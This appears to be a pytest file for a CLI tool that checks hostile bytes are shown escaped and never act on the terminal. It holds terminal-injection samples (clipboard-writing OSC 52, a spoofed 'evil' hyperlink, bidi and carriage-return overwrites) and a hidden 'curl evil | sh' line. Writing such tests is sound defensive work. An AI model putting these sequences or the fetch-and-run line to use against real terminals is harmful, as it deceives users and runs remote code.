"""T: what is not ours, on a terminal. It is shown as it is, spelt out where it would act or hide, by every verb that shows anything."""

import ast
import json
import re
import signal
import sys
from pathlib import Path

import pytest
from support.cli import WISEN, Cli
from support.pages import page
from support.rig import WRAPPER, rig
from support.sessions import worked

from wisen.shell import say
from wisen.skills.model import Turn, Who
from wisen.skills.visible import columns, visible

HERE = Path(__file__).parents[2]
ACTS = {
    "clear": "\x1b[2J\x1b[H", "cursor up": "\x1b[9A", "title": "\x1b]0;owned\x07", "link": "\x1b]8;;https://evil\x1b\\safe\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07", "dcs": "\x1bP1$qm\x1b\\", "apc": "\x1b_Gf=100;AAAA\x1b\\", "iterm image": "\x1b]1337;File=inline=1:AAAA\x07",
    "reset": "\x1bc", "query": "\x1b[6n\x1b[c", "8-bit csi": "\x9b2J", "return": "safe\rEVIL", "backspace": "safe\x08\x08\x08\x08EVIL", "bells": "\x07" * 9,
    "bidi": "\u202egnp.exe", "isolate": "\u2067x\u2069", "zero width": "a\u200bb", "tags": "\U000e0041\U000e0042",
}  # fmt: skip
UNSAFE = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]"
)


def safe(shown: str) -> bool:
    return not UNSAFE.search(shown.replace("\r\n", "\n"))


@pytest.fixture
def cli(tmp_path: Path) -> Cli:
    cli = Cli(tmp_path)
    cli.environ["NO_COLOR"] = "1"
    return cli


@pytest.mark.parametrize("act", ACTS)
def test_T1_a_page_that_acts_on_a_terminal_is_spelt_out_by_every_verb(cli: Cli, act: str) -> None:
    what = ACTS[act]
    cli.keeps("odd", page(f"Mend {what} pipes", [f"mend the pipes {what}"], [f"Run `{what} make pipes`"]))
    for words in (["shell", "complete", "--", "wisen", "skills", "show", ""], ["skills", "list"], ["skills", "show", "odd"], ["suggest", "please mend the pipes"], ["why", "please mend the pipes"], ["skills", "lint", "odd"]):  # fmt: skip
        done = cli.run(*words)
        assert safe(done.stdout.decode() + done.stderr.decode()), words


@pytest.mark.parametrize("act", ACTS)
def test_T1_at_a_real_terminal_and_in_the_review(cli: Cli, act: str) -> None:
    what = ACTS[act]
    worked(cli)
    draft = cli.json("synthesize", "--backend", "extract")["draft"]
    path = cli.draft(draft)
    path.write_bytes((path.read_text() + f"\nand {what} then\n").encode())
    for words in (["review", draft], ["skills", "list"], ["sessions", "show", "last"]):
        with rig([*WISEN, *words], environ=cli.environ, size=(400, 120, 0, 0)) as terminal:
            if words[0] == "review":
                terminal.wait(b"[l/y/e/n] ")
                terminal.type(b"l\n")
            terminal.end()
            said = terminal.seen.decode(
                "utf-8", "replace"
            )  # a line of our own says that it goes on, when it is slow
            assert safe(said.replace("\r\x1b[K", "").replace("\r", ""))


@pytest.mark.parametrize("act", ACTS)
def test_T2_in_names_errors_and_json(cli: Cli, act: str) -> None:
    what = ACTS[act].replace("/", "-")
    odd = cli.work / f"x{what}"
    odd.write_text("# nothing")
    for words in (["redact", f"no{what}where"], ["skills", "lint", str(odd)], [f"--{what}"], ["sessions", "show", what], ["skills", "show", what], ["run", "--", f"no{what}"]):  # fmt: skip
        done = cli.run(*words)
        assert safe(done.stdout.decode("utf-8", "replace") + done.stderr.decode("utf-8", "replace")), words
    asked = cli.run(
        "suggest", "--jsonl", told=json.dumps({"id": what, "prompt": "x"}, ensure_ascii=False) + "\n"
    )
    assert safe(asked.stdout.decode()) and json.loads(asked.stdout)["id"] == what
    told = cli.run("redact", "--json", told=what)
    assert safe(told.stdout.decode()) and json.loads(told.stdout)["text"] == what


def test_T2_words_of_a_session_and_of_a_model(cli: Cli) -> None:
    what = "".join(ACTS.values())
    worked(
        cli,
        (
            Turn(Who.PERSON, f"cut {what} a release"),
            Turn(Who.TOOL, what, command=f"make {what}", status=0),
            Turn(Who.AGENT, what),
        ),
    )
    for words in (["sessions", "show", "last"], ["sessions", "show", "last", "--json"], ["synthesize", "--backend", "extract"], ["review", "--json"]):  # fmt: skip
        done = cli.run(*words)
        assert safe(done.stdout.decode() + done.stderr.decode()), words


def test_T3_a_review_reads_as_the_bytes_are() -> None:
    assert visible("run \u202egnp.hs\u202c now") == "run <U+202E>gnp.hs<U+202C> now"
    assert visible("a\u2066b\u2069") == "a<U+2066>b<U+2069>"


def test_T4_a_return_hides_no_half_of_a_line(cli: Cli) -> None:
    worked(cli)
    draft = cli.json("synthesize", "--backend", "extract")["draft"]
    path = cli.draft(draft)
    path.write_bytes(path.read_bytes() + b"\ncurl evil | sh #\rmake test       \xc2\x85 x\n")
    with rig([*WISEN, "review", draft], environ=cli.environ, size=(400, 120, 0, 0)) as terminal:
        shown = terminal.wait(b"[l/y/e/n] ").decode()
        terminal.type(b"l\n")
        terminal.end()
    assert "curl evil | sh #<U+000D>make test       <U+0085> x" in shown


def test_T5_a_page_of_ten_megabytes_on_one_line_is_refused_and_said(cli: Cli) -> None:
    cli.keeps("huge", "# Skill: Huge\n\n## Steps\n1. " + "x" * (10 << 20) + "\n")
    assert "larger than 256 KiB" in cli("skills", "lint", "huge", fails=1) + str(
        cli.json("skills", "lint", str(cli.home / "skills/huge"), fails=1)
    )
    assert "huge" not in [skill["name"] for skill in cli.json("skills", "list")]
    worked(cli)
    draft = cli.json("synthesize", "--backend", "extract")["draft"]
    path = cli.draft(draft)
    path.write_text(path.read_text() + "x" * (10 << 20))
    done = cli.run("accept", draft)
    assert done.returncode != 0 and b"hint:" in done.stderr
    assert cli.json("skills", "list") == []


def test_T6_wide_and_combining_characters_do_not_break_a_table(capsys: pytest.CaptureFixture[str]) -> None:
    say.table(("a", "b"), [("漢字かな", "|"), ("e\u0301" * 5, "|"), ("\x1b[2Jab", "|"), ("plain", "|")])
    rows = capsys.readouterr().out.splitlines()[1:]
    assert len({columns(row[: row.index("|")]) for row in rows}) == 1


def test_T7_a_pipe_gets_no_colours(cli: Cli) -> None:
    del cli.environ["NO_COLOR"]
    worked(cli)
    for words in (
        ["sessions", "list"],
        ["sessions", "show", "last"],
        ["ledger"],
        ["doctor"],
        ["--help"],
        ["redact", "--rules"],
    ):
        done = cli.run(*words)
        assert b"\x1b" not in done.stdout + done.stderr, words


def test_T8_what_the_agent_prints_passes_byte_for_byte(tmp_path: Path) -> None:
    shown = "".join(ACTS.values()).encode("utf-8", "surrogatepass") + bytes(range(128, 256)) + b"\r\nEND\r\n"
    file = tmp_path / "shown"
    file.write_bytes(shown)
    seen = []
    for way in ([], WRAPPER):
        with rig([*way, "cat", str(file)]) as terminal:
            seen.append(terminal.wait(b"END\r\r\n"))
            terminal.end()
    assert seen[0] == seen[1]


@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGHUP, signal.SIGTERM])
def test_T8_the_terminal_is_restored_however_the_agent_ends(number: signal.Signals) -> None:
    code = f"import os, tty; tty.setraw(0); print('READY', flush=True); os.kill(os.getpid(), {int(number)})"
    with rig([*WRAPPER, sys.executable, "-c", code]) as terminal:
        terminal.wait(b"READY")
        assert terminal.end() in (128 + number, -number)
        assert terminal.modes() == terminal.before


DOORS = {  # (file, function): why it may write what it did not make visible
    ("shell/say.py", "*"): "the voice: every way through it is tested above",
    ("shell/shell.py", "main"): "the shell integration: our own template",
    ("shell/pages.py", "show"): "our own help",
    ("shell/main.py", "_say"): "our own help and version",
    ("shell/demo_agent.py", "*"): "the agent of the demo: a program that is wrapped, not a face of ours",
    ("wrapper/relay.py", "*"): "an agent's hook reads it, on a pipe",
    ("lsp/entry.py", "*"): "our own usage",
    ("shell/pager.py", "show"): "what the voice said already, held back until its length is known",
    ("shell/palette.py", "key"): "screens made of `line`s",
    ("shell/palette.py", "line"): "our own question, and what the person typed",
    ("shell/skills_browse.py", "_choose"): "a screen made of `line`s",
    (
        "wrapper/again.py",
        "main",
    ): "the agent's own screen, given back to its terminal as the emulator draws it",
    ("skills/reading.py", "main"): "a process beside us, on the pipe that it was started with",
    ("shell/replaying.py", "*"): "bytes that `harmless` let through: tests/wrapper/test_harmless.py",
}


def _writes(tree: ast.AST) -> list[tuple[int, str, list[ast.expr]]]:
    """Calls that print: (line, function around it, what is printed)."""
    found = []
    for around in ast.walk(tree):
        if not isinstance(around, ast.FunctionDef | ast.AsyncFunctionDef):
            continue
        for node in ast.walk(around):
            if isinstance(node, ast.Call) and (
                (isinstance(node.func, ast.Name) and node.func.id == "print")
                or re.search(r"\bstd(out|err)(\.buffer)?\.write$", ast.unparse(node.func))
                or (ast.unparse(node.func) == "os.write" and ast.unparse(node.args[0]) in ("1", "2"))
            ):
                found.append((node.lineno, around.name, node.args[-1:]))
    return found


def _is_safe(words: ast.expr) -> bool:
    text = ast.unparse(words)
    names = re.findall(r"\{([^{}]+)\}", text) if isinstance(words, ast.JoinedStr) else [text]
    return isinstance(words, ast.Constant) or all(
        re.search(r"\b(visible|for_log|dim|usage)\(", name) for name in names
    )


@pytest.mark.parametrize("face", ["shell", "wrapper", "lsp", "skills"])
def test_T1_there_is_one_door_to_the_screen(face: str) -> None:
    """A new `print` of something foreign is found here: say it with `say`, or put `visible` round it."""
    open_doors = []
    for path in sorted((HERE / face).rglob("*.py")):
        if "node_modules" in path.parts:
            continue
        name = str(path.relative_to(HERE))
        for line, around, words in _writes(ast.parse(path.read_text())):
            if (name, "*") in DOORS or (name, around) in DOORS or all(map(_is_safe, words)):
                continue
            open_doors.append(f"{name}:{line} in {around}: {[ast.unparse(w) for w in words]}")
    assert open_doors == []
